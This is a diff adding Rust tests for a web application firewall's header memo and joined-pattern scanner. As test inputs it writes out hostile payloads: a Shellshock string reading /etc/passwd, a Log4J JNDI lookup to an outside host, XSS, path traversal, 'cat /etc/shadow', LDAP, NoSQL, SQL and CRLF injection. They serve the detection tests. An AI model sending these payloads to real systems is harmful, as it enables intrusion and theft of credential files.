@@ -25,7 +25,7 @@ fn blocked_by<'a>(acl: &'a crate::WebAcl, v: &RequestView<'_>) -> Option<&'a str
 
 #[test]
 fn pattern_rules_fit_the_scan_bits() {
-    assert!(super::pattern_rules().count() <= 64);
+    assert!(super::pattern_rules().count() <= super::CLASSES_SHIFT as usize);
 }
 
 #[test]
@@ -185,4 +185,93 @@ fn bot_control_labels_and_blocks_only_spoofed_engines() {
     let verified = RequestView { bot_verified: Some(true), ..view(b"", google) };
     assert!(labels(&verified).contains(&format!("{ns}VerifiedBot")));
     assert_eq!(acl.bot_domains(b"curl/8"), None);
+}
+
+#[test]
+fn clean_header_values_are_learned_and_attacks_never_are() {
+    let low = acl("");
+    let high = acl("        sensitivity: high");
+    let clean: &[u8] = b"Mozilla/5.0 (a header value only this test sends)";
+    assert!(!super::known_clean_header(clean));
+    assert_eq!(blocked_by(&low, &view(b"", &[("user-agent", clean)])), None);
+    assert!(super::known_clean_header(clean), "learned on first sight");
+    assert_eq!(blocked_by(&low, &view(b"", &[("user-agent", clean)])), None);
+    // Values that some rule matches, at any sensitivity, are inspected every time.
+    for (value, rule) in [
+        (&b"() { :; }; echo; /bin/cat /etc/passwd"[..], Some("bad:Shellshock")),
+        (b"${jndi:ldap://e.example/a}", Some("bad:Log4JRCE")),
+        (b"<svg/onload=alert(1)>", Some("core:XSS")),
+        // Only the high-sensitivity XSS patterns see this one: it passes here, but no ACL
+        // may skip it.
+        (b"width: expression(go)", None),
+    ] {
+        for _ in 0..2 {
+            assert_eq!(blocked_by(&low, &view(b"", &[("x-test", value)])), rule, "{}", value.escape_ascii());
+        }
+        assert!(!super::known_clean_header(value), "{}", value.escape_ascii());
+    }
+    assert_eq!(blocked_by(&high, &view(b"", &[("x-test", b"width: expression(go)")])), Some("core:XSS"));
+}
+
+#[test]
+fn every_rule_over_headers_is_one_the_clean_header_memo_knows() {
+    // `learn_clean_headers` knows the scan's patterns and the SQLi and XSS detectors, and bot
+    // rules read the request's headers, not the inputs; a header rule of another kind would
+    // need it to learn more.
+    for rule in super::GROUPS.iter().flat_map(|g| g.rules.iter()).filter(|r| r.parts.contains(&super::Part::Header)) {
+        assert!(
+            matches!(
+                rule.detector,
+                super::Detector::Patterns(..) | super::Detector::Sqli | super::Detector::Xss | super::Detector::Bot(_)
+            ),
+            "{}",
+            rule.name
+        );
+    }
+}
+
+/// The scan looks at all views of a request joined first, and view by view only when that
+/// finds something: it must find what each view alone gives, anchored patterns included.
+#[test]
+fn the_joined_scan_finds_what_each_view_alone_finds() {
+    use std::borrow::Cow;
+
+    use crate::inputs::{Input, Part};
+
+    let attacks: [&[u8]; 12] = [
+        b"etc/passwd",
+        b"c:/windows/win.ini",
+        b"$ne",
+        b" $where ",
+        b"php://filter/resource=x",
+        b"..",
+        b"/.env",
+        b"cat /etc/shadow",
+        b"*)(uid=*",
+        b"<!doctype x [",
+        b"a\r\nbcc: x@example.com",
+        b"1 union all select 2",
+    ];
+    let input = |value: &'static [u8]| Input {
+        part: Part::Query,
+        name: Cow::Borrowed("q"),
+        views: smallvec::smallvec![Cow::Borrowed(value)],
+    };
+    let scanner = &*super::SCANNER;
+    let alone = |value: &[u8]| {
+        let classes = crate::classes::Classes::of(value);
+        let mut bits = scanner.raw.bits(value) | u64::from(classes.0) << super::CLASSES_SHIFT;
+        for (fold, pass) in &scanner.folded {
+            if let Cow::Owned(folded) = fold.apply(value, classes) {
+                bits |= pass.bits(&folded);
+            }
+        }
+        bits
+    };
+    for attack in attacks {
+        assert_ne!(alone(attack) & !(0xff << super::CLASSES_SHIFT), 0, "{} matches alone", attack.escape_ascii());
+        let inputs = [input(b"first value\nwith a line"), input(attack), input(b"last")];
+        let scanned = super::scan(&inputs);
+        assert_eq!(scanned, inputs.iter().map(|i| alone(&i.views[0])).collect::<Vec<_>>(), "{}", attack.escape_ascii());
+    }
 }
